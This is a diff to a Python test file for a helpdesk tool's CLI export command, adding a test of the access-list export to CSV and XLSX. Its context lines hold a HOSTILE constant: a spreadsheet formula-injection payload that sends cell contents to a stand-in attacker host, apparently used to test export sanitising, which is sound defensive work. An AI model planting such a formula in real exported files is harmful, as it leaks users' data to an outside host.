@@ -18,6 +18,7 @@ from storage import people
 from tests import desk
 from tests.bot.conftest import Terminal
 from tests.desk import Counter, press, words
+from tests.handlers.access.systems import approved, company_with_systems, granted
 from tests.handlers.ticket.helpdesk import asks, helpdesk
 
 HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"Ana")'
@@ -81,6 +82,19 @@ def test_tickets_that_were_opened_on_a_day(terminal: Terminal, tmp_path: Path) -
         ["TIC-2", "people", "", ""],
     ]
     assert terminal(f"export tickets {file} --since 2026-08-04").out.startswith("0 rows")
+
+
+def test_who_has_access_to_what(terminal: Terminal, tmp_path: Path) -> None:
+    with company_with_systems(terminal.database_url) as counter:
+        granted(counter)
+        approved(counter, by="carla")
+    file, workbook = tmp_path / "access.csv", tmp_path / "access.xlsx"
+    assert terminal(f"export access {file}").out == f"1 row in {file}\n", "what is not given yet is not there"
+    header, row = read(file)
+    assert dict(zip(header, row, strict=True))["in_policy"] == "no", "the shipped app.yaml names no system"
+    assert row[:4] == ["ACC-1", "Ana Souza", "ana@company.example", "crm"]
+    assert terminal(f"export access {workbook}").out.startswith("1 row")
+    assert zipfile.is_zipfile(workbook)
 
 
 def test_a_month_and_a_file_that_do_not_work(terminal: Terminal, july_to_august: None, tmp_path: Path) -> None:
